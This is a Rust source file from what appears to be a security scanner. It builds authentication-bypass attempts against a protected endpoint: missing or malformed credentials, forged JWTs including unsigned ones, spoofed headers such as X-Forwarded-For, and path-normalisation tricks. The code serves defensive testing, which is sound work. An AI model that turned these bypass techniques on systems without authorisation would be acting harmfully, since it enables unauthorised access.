//! The requests `auth_bypass` sends to one protected endpoint, none carrying the legitimate
//! credential: no or malformed credentials, forged JWTs, header tricks and path tricks.

use crate::context::AttackContext;
use crate::http::HttpRequest;
use crate::input::{self, Input};

use super::jwt;

const HEADERS: &str = include_str!("../../../payloads/auth_bypass_headers.txt");

/// Length of the oversized token; below common 8 KB header limits so the guard, not the
/// header parser, has to refuse it.
const LONG_TOKEN: usize = 4096;

/// What an attempt varies, which decides the answers that count as "not bypassed".
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Family {
    /// Missing, malformed or forged credentials.
    Credentials,
    /// Headers a guard might trust (client address, URL override).
    Header,
    /// Another spelling of the path; 404/405 also means not bypassed.
    Path,
}

/// One request to send.
pub(super) struct Attempt {
    pub family: Family,
    /// The trick, e.g. `X-Forwarded-For: 127.0.0.1` or `JWT alg:none (unsigned)`.
    pub name: String,
    pub req: HttpRequest,
    /// Sent to `/` with a URL-override header: judged against the answer of a plain `/`.
    pub via_root: bool,
}

/// A protected endpoint: the same request with and without the credential.
pub(super) struct Protected {
    /// e.g. `GET /users/{input}`.
    pub label: String,
    /// The request without any credential.
    pub bare: HttpRequest,
    /// The request with the legitimate credential (only sent when `ctx.auth` is given).
    pub legit: HttpRequest,
    /// A random `{input}` value is likely missing, so a 4xx from the handler is expected.
    pub has_input: bool,
}

/// Header carrying the credential and its scheme (`Bearer` unless the component says).
pub(super) fn credential_header(ctx: &AttackContext) -> (String, String) {
    match (&ctx.component.auth, &ctx.auth) {
        (Some(a), _) => (a.header.clone(), a.scheme.clone()),
        (None, Some((name, _))) => (name.clone(), "Bearer".into()),
        (None, None) => ("Authorization".into(), "Bearer".into()),
    }
}

impl Protected {
    pub fn new(
        ctx: &AttackContext,
        ep: &shakedown_core::system::Endpoint,
        word: &str,
    ) -> Protected {
        let legit = input::request(ctx, ep, &Input::Text(word.to_string()));
        let mut bare = legit.clone();
        let (header, _) = credential_header(ctx);
        let legit_name = ctx
            .auth
            .as_ref()
            .map(|(n, _)| n.clone())
            .unwrap_or_else(|| header.clone());
        bare.headers.retain(|(k, _)| {
            !k.eq_ignore_ascii_case(&header) && !k.eq_ignore_ascii_case(&legit_name)
        });
        Protected {
            label: super::endpoint_label(ep),
            bare,
            legit,
            has_input: ep.has_input(),
        }
    }

    /// The path without the query, and the query (with its `?`, or empty).
    fn split(&self) -> (&str, &str) {
        let pq = self.bare.path_and_query.as_str();
        match pq.find('?') {
            Some(i) => (&pq[..i], &pq[i..]),
            None => (pq, ""),
        }
    }
}

/// Every attempt on `p`; `now` is the Unix time for forged claims, `tag` a random word.
pub(super) fn all(ctx: &AttackContext, p: &Protected, now: i64, tag: &str) -> Vec<Attempt> {
    let mut out = Vec::new();
    credentials(ctx, p, now, tag, &mut out);
    headers(ctx, p, &mut out);
    paths(p, &mut out);
    out
}

fn credentials(ctx: &AttackContext, p: &Protected, now: i64, tag: &str, out: &mut Vec<Attempt>) {
    let (header, scheme) = credential_header(ctx);
    let value = |token: &str| {
        if scheme.is_empty() {
            token.to_string()
        } else {
            format!("{scheme} {token}")
        }
    };
    let mut push = |name: String, v: Option<String>| {
        let mut req = p.bare.clone();
        if let Some(v) = v {
            req.headers.push((header.clone(), v));
        }
        out.push(Attempt {
            family: Family::Credentials,
            name,
            req,
            via_root: false,
        });
    };
    push("no credentials".into(), None);
    if scheme.is_empty() {
        push(format!("empty {header}"), Some(String::new()));
    } else {
        push(
            format!("{header}: {scheme} (scheme only)"),
            Some(scheme.clone()),
        );
        push(
            format!("{header}: \"{scheme} \" (scheme and a space)"),
            Some(format!("{scheme} ")),
        );
    }
    push(
        format!("{header}: Basic Zm9vOmJhcg== (foo:bar)"),
        Some("Basic Zm9vOmJhcg==".into()),
    );
    push(
        "garbage token".into(),
        Some(value(&format!("{tag}-not-a-token"))),
    );
    push(
        format!("very long token ({LONG_TOKEN} characters)"),
        Some(value(&"A".repeat(LONG_TOKEN))),
    );
    for f in jwt::forged(now) {
        push(f.name, Some(value(&f.token)));
    }
}

fn headers(ctx: &AttackContext, p: &Protected, out: &mut Vec<Attempt>) {
    let root = ctx.target.path("/");
    for line in HEADERS
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
    {
        let Some((name, value)) = line.split_once(':') else {
            continue;
        };
        let (name, value) = (name.trim(), value.trim());
        let mut req = p.bare.clone();
        let via_root = value.contains("{path}");
        let value = value.replace("{path}", &p.bare.path_and_query);
        if via_root {
            req.path_and_query = root.clone();
        }
        req.headers.push((name.to_string(), value.clone()));
        let shown = if via_root {
            format!("{name}: {value} (sent to {root})")
        } else {
            format!("{name}: {value}")
        };
        out.push(Attempt {
            family: Family::Header,
            name: shown,
            req,
            via_root,
        });
    }
}

fn paths(p: &Protected, out: &mut Vec<Attempt>) {
    let (path, query) = p.split();
    let trimmed = path.trim_end_matches('/');
    let mut variants = vec![
        ("/./ prefix", format!("/.{path}")),
        ("double slash", format!("/{path}")),
        ("%2e segment", format!("/%2e{path}")),
        ("trailing /%2e", format!("{trimmed}/%2e")),
        ("trailing /.", format!("{trimmed}/.")),
        ("upper case", path.to_uppercase()),
        (
            "trailing slash",
            if path.ends_with('/') {
                trimmed.to_string()
            } else {
                format!("{path}/")
            },
        ),
        ("; suffix", format!("{path};")),
    ];
    variants.retain(|(_, v)| v != path && !v.is_empty());
    for (name, v) in variants {
        let mut req = p.bare.clone();
        req.path_and_query = format!("{v}{query}");
        out.push(Attempt {
            family: Family::Path,
            name: format!("path trick: {name} ({v})"),
            req,
            via_root: false,
        });
    }
}
